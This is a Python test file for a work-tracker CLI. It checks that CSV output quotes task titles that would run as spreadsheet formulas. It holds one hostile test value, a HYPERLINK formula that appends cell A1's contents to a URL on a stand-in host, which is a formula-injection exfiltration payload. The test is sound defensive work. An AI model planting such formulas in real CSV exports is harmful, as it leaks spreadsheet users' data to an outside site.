"""A view's CSV never hands a spreadsheet a formula: tracker text comes from pull requests."""

from __future__ import annotations

import csv
import io

from ..conftest import WORKPLAN, RunCli, Tracker


def test_overdue_csv_quotes_a_title_that_would_run_as_a_formula(tracker: Tracker, run_cli: RunCli) -> None:
    hostile = '=HYPERLINK("https://example.com/?"&A1,"Click")'
    tracker.write("data/workplan/org-a.yaml", WORKPLAN.replace("Write the strategy", f"'{hostile}'"))
    result = run_cli("overdue", "--as-of", "2030-01-01", "--format", "csv", root=tracker.root)
    assert result.exit_code in (0, 1), result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    titles = [row[rows[0].index("title")] for row in rows[1:]]
    assert "'" + hostile in titles
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row if cell)
